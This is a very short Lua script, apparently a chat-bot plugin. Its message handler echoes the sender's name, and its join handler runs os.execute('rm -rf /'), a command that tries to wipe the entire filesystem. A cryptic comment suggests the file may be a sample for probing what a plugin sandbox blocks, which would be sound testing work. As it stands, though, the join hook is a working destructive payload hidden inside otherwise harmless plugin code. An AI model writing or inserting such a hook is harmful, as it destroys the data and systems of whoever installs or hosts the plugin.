-- Looks where nothing is, and for what a plugin does not get.
on('message', function(message)
  reply(message.author.name)
end)

on('join', function()
  os.execute('rm -rf /')
end)
